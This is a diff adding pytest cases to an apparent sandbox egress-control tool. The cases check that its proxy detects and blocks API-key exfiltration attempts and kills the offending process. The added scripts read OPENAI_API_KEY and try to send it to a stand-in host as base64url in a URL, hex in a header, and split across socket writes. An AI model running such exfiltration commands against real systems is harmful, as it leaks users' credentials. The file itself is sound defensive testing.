@@ -406,3 +406,49 @@ def test_alert_command_gets_the_record_on_stdin(airlock, tmp_path):
     body = json.loads(out.read_text())
     assert body["source"] == "airlock" and body["type"] == "exec"
     assert body["record"]["path"].endswith("apt-get")
+
+
+# request heads of plain HTTP, searched by the proxy itself: refused (403 or
+# reset) and reported; the default rule then kills
+SPLIT_PY = r'''
+import os, socket, sys, time
+t = os.environ["OPENAI_API_KEY"][8:]
+s = socket.create_connection(("127.0.0.1", 3128), 5)
+head = "GET http://allowed.test/p?k=" + t + " HTTP/1.1\r\nHost: allowed.test\r\n\r\n"
+cut = len("GET http://allowed.test/p?k=") + 17
+s.sendall(head[:cut].encode()); time.sleep(0.3); s.sendall(head[cut:].encode())
+print(s.recv(100)[:12])
+'''
+
+
+@pytest.mark.parametrize("script,encoding", [
+    # base64 in a URL, through the transparent path
+    (TOKEN_SH + 'b=$(printf "xy%s" "$t" | base64 -w0 | tr "+/" "-_" | tr -d =); '
+     'curl -s -m 3 --resolve allowed.test:80:203.0.113.7 "http://allowed.test/q?d=$b"',
+     "base64"),  # (base64url only when the encoding has a - or _)
+    # hex in a header, through the explicit proxy (port 3128)
+    (TOKEN_SH + 'h=$(printf "%s" "$t" | od -An -tx1 | tr -d " \\n"); '
+     'curl -s -m 3 -x http://127.0.0.1:3128 -H "X-Trace: $h" http://allowed.test/', "hex"),
+    # the token split across two writes of the request line
+    ('python3 -c \'' + SPLIT_PY.replace("'", '"') + '\'', "plain"),
+])
+def test_exfil_in_request_heads_is_refused_and_kills(airlock, tmp_path, script, encoding):
+    res, log = run_sh(airlock, tmp_path, script + "; sleep 3; echo after", NET_SPEC)
+    if res.rc == 125 and b"proxy" in res.stderr:
+        pytest.skip("proxy mode unavailable here: " + res.stderr.decode()[-300:])
+    fired, _ = assert_policy_kill(res, log)
+    ex = recs(log, "exfil")
+    assert ex and ex[0]["channel"] == "request" and ex[0]["encoding"].startswith(encoding), ex
+    assert b"after" not in res.stdout
+
+
+def test_exfil_in_request_head_refused_under_a_log_rule(airlock, tmp_path):
+    spec = NET_SPEC + "rules:\n  - {on: exfil, action: log}\n"
+    res, log = run_sh(airlock, tmp_path,
+                      TOKEN_SH + 'curl -s -m 3 -o /dev/null -w "%{http_code}\\n" '
+                      '-x http://127.0.0.1:3128 "http://allowed.test/?k=$t"', spec)
+    if res.rc == 125 and b"proxy" in res.stderr:
+        pytest.skip("proxy mode unavailable here")
+    assert_not_killed(res, log)
+    assert b"403" in res.stdout, res.describe()
+    assert recs(log, "exfil") and recs(log, "rule_fired")[0]["action"] == "log"
